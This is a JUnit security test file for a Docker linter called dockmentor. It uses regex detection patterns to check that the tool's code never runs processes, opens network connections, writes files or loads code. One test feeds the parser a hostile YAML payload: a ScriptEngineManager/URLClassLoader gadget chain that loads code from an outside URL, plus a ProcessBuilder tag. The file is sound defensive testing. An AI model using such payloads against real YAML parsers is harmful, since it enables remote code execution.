package dev.dockmentor;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.dockmentor.compose.ComposeFile;
import dev.dockmentor.compose.YNode;
import dev.dockmentor.config.ConfigException;
import dev.dockmentor.config.ConfigLoader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What dockmentor must never do, enforced (docs/hardening.md, "Security"): no network access, no process
 * execution, no file writes (fixes are edits the editor applies), no code loaded or objects built from
 * what it reads (YAML is read as data).
 */
class SecurityTest {
    static final Path MAIN = Path.of("src/main/java");

    /** API uses main code must not contain, each with the one place allowed to (if any) and why. */
    static final Map<String, Pattern> FORBIDDEN = Map.ofEntries(
            Map.entry("process execution", Pattern.compile("ProcessBuilder|Runtime\\.getRuntime\\(\\)\\s*\\.\\s*exec|\\bProcessHandle\\b")),
            Map.entry("network", Pattern.compile("java\\.net\\.(Socket|ServerSocket|DatagramSocket|URL\\b|HttpURLConnection|InetAddress|http\\.)"
                    + "|\\b(Socket|ServerSocket|DatagramSocket|SocketChannel|ServerSocketChannel|HttpClient|InetAddress)\\b|\\.openConnection\\(|\\.openStream\\(|new URL\\(|\\.toURL\\(")),
            Map.entry("file writes", Pattern.compile("Files\\.(write|writeString|newOutputStream|newBufferedWriter|createFile|createDirector|createTemp"
                    + "|createLink|createSymbolicLink|delete|move|copy|setAttribute|setPosixFilePermissions|setLastModifiedTime)"
                    + "|FileWriter|RandomAccessFile|FileChannel|\\.delete\\(\\)|\\.mkdirs?\\(|\\.renameTo\\(|new FileOutputStream\\((?!FileDescriptor|java\\.io\\.FileDescriptor)")),
            Map.entry("code loading / deserialization", Pattern.compile("ObjectInputStream|XMLDecoder|ScriptEngine|URLClassLoader|defineClass|Class\\.forName|System\\.load")),
            Map.entry("YAML object construction", Pattern.compile("org\\.snakeyaml\\.engine\\.v2\\.(constructor|api\\.ConstructNode)|setTagConstructors|setSchema\\(")));

    /** The one place allowed to write files, and why: {@code check --fix} (interfaces.md) replaces the fixed file. */
    static final Map<String, String> WRITES_ALLOWED = Map.of("dev/dockmentor/cli/AtomicWrite.java",
            "check --fix writes the fixed file, atomically and never over a file that changed meanwhile");

    @Test
    void mainCodeNeverExecutesProcessesOpensConnectionsWritesFilesOrLoadsCode() throws IOException {
        List<String> hits = new ArrayList<>();
        try (Stream<Path> files = Files.walk(MAIN)) {
            for (Path f : files.filter(p -> p.toString().endsWith(".java")).sorted().toList()) {
                String[] lines = Files.readString(f).split("\n");
                for (int i = 0; i < lines.length; i++) {
                    String l = lines[i].strip();
                    if (l.startsWith("*") || l.startsWith("//") || l.startsWith("/*")) continue;
                    for (var e : FORBIDDEN.entrySet()) {
                        Matcher m = e.getValue().matcher(l);
                        if (!m.find()) continue;
                        if (e.getKey().equals("file writes") && WRITES_ALLOWED.containsKey(MAIN.relativize(f).toString().replace('\\', '/'))) continue;
                        hits.add(MAIN.relativize(f) + ":" + (i + 1) + " " + e.getKey() + ": " + m.group());
                    }
                }
            }
        }
        assertEquals(List.of(), hits);
    }

    /** The scan itself must catch what it claims to (a scan that matches nothing proves nothing). */
    @Test
    void theScanRecognisesEachForbiddenUse() {
        Map<String, String> samples = new TreeMap<>(Map.of(
                "process execution", "new ProcessBuilder(\"sh\").start();",
                "network", "new java.net.Socket(\"example.com\", 80);",
                "file writes", "Files.writeString(p, text);",
                "code loading / deserialization", "new ObjectInputStream(in).readObject();",
                "YAML object construction", "import org.snakeyaml.engine.v2.constructor.BaseConstructor;"));
        for (var s : samples.entrySet()) assertTrue(FORBIDDEN.get(s.getKey()).matcher(s.getValue()).find(), s.getKey());
        assertFalse(FORBIDDEN.get("file writes").matcher("new FileOutputStream(FileDescriptor.out)").find(), "stdout is not a file write");
    }

    /** Checking a project, whatever it contains, leaves every file as it was and creates none. */
    @Test
    void checkingAProjectChangesNoFile(@TempDir Path dir) throws IOException {
        Files.writeString(dir.resolve("Dockerfile"), "FROM python:3.12\nADD https://x.example/a.tgz /a\nRUN apt-get install curl\n");
        Files.writeString(dir.resolve("compose.yaml"), "services:\n  web:\n    build: .\n    privileged: true\n    volumes: [data:/d]\n");
        Files.writeString(dir.resolve(".dockmentor.yaml"), "profile: strict\n");
        Map<Path, String> before = snapshot(dir);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        PrintStream ps = new PrintStream(out, true, StandardCharsets.UTF_8);
        for (String format : List.of("text", "json", "sarif")) {
            dev.dockmentor.cli.Main.run(new String[] {"check", "--format", format, dir.toString()}, ps, ps);
        }
        assertTrue(out.toString(StandardCharsets.UTF_8).contains("missing-dockerignore"), "the check ran and found the missing .dockerignore");
        assertEquals(before, snapshot(dir), "the check changed or created files");
    }

    /** YAML tags never build objects: a compose file keeps them as data, a config file is refused. */
    @Test
    void yamlIsReadAsDataOnly() {
        String hostile = "services:\n  web: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.example/\"]]]]\n";
        ComposeFile f = ComposeFile.parse("/p/compose.yaml", hostile);
        YNode web = f.root.get("services").get("web");
        assertEquals("javax.script.ScriptEngineManager", web.tag.replaceFirst("^tag:yaml.org,2002:", ""));
        assertTrue(web.isSeq(), "kept as a plain node");
        assertThrows(ConfigException.class, () -> ConfigLoader.parse(Path.of("/p/.dockmentor.yaml"), "profile: !!java.lang.ProcessBuilder [\"sh\"]\n"));
    }

    private static Map<Path, String> snapshot(Path dir) throws IOException {
        Map<Path, String> out = new TreeMap<>();
        try (Stream<Path> s = Files.walk(dir)) {
            for (Path p : s.sorted().toList()) out.put(dir.relativize(p), Files.isDirectory(p) ? "<dir>" : Files.readString(p));
        }
        return out;
    }
}
